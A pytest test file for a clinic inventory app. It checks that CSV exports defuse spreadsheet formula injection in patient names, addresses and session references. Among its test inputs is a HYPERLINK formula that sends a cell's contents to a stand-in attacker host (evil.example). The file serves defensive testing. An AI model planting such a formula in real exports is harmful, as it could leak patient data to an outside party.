"""Every CSV export defuses cells a spreadsheet would run as formulas (issue #14 §2)."""

from __future__ import annotations

import csv
import io

import pytest

from ketamine_clinic.common.csv_export import safe_cell
from ketamine_clinic.inventory import services
from ketamine_clinic.patients.models import Patient
from tests.conftest import PASSWORD

PREFIXED = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+1",
    "-": "-2+3",
    "@": "@SUM(A1:A9)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-A1", "'-A1"),
        ("- 5", "'- 5"),
        ("-5\n", "'-5\n"),
        # A cell that is wholly a negative number stays a number a spreadsheet can add.
        ("-8", "-8"),
        ("-12.50", "-12.50"),
        ("Moreno", "Moreno"),
        ("a=1", "a=1"),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(cell, written):
    assert safe_cell(cell) == written


def _rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("prefix", list(PREFIXED))
def test_the_ledger_exports_escape_a_patient_name_and_a_session_ref(world, stock, login, prefix):
    hostile = PREFIXED[prefix]
    Patient.objects.filter(pk=world.patient1.pk).update(
        legal_given_name=hostile, legal_family_name=hostile, address=hostile
    )
    world.patient1.refresh_from_db()
    entry = services.dispense_record(
        actor=world.nurse,
        signature=PASSWORD,
        container=stock.vial,
        quantity_mg="42",
        administered_mg="41.2",
        patient=world.patient1,
        session_ref=hostile[:60],
    )
    client = login(world.auditor)
    [_, dose] = _rows(client.get("/inventory/log.csv"))
    assert dose["patient_name"] == f"'{hostile} {hostile}"
    assert dose["patient_address"] == f"'{hostile}"
    # The service strips the reference's surrounding white space; what is left is still escaped.
    assert dose["session"] == f"'{entry.session_ref}"
    for name in ("dispensing", "record"):
        rows = _rows(client.get("/inventory/reports/", {"report": name, "format": "csv"}))
        drawn = next(r for r in rows if r["#"] == "2")
        assert drawn["Patient"].startswith(f"'{hostile}"), name
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
